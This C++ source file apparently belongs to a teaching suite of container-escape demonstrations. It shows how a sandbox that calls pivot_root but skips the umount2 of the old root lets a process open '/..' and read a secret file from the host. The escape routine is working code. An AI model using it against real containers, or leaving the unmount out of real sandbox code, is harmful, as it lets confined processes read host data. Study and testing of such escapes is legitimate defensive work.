// pivot-no-umount: into the old root, which nobody has taken away.
//
// pivot_root(".", ".") stacks the old root on top of the new one. A path that begins with "/" is
// walked from below it; but ".." at the root steps onto what is mounted there: the host's tree. The
// umount2(".", MNT_DETACH) that belongs after pivot_root takes it away.
#include "sys/path.hpp"
#include "teach/escapes/escapes.hpp"

namespace teach {

sys::Result<std::string> pivot_no_umount(const Prey& prey) {
    sys::Fd above = TRY(sys::openat(AT_FDCWD, "/..", O_RDONLY | O_DIRECTORY));
    return sys::read_file(above.get(), prey.secret().substr(1));
}

} // namespace teach
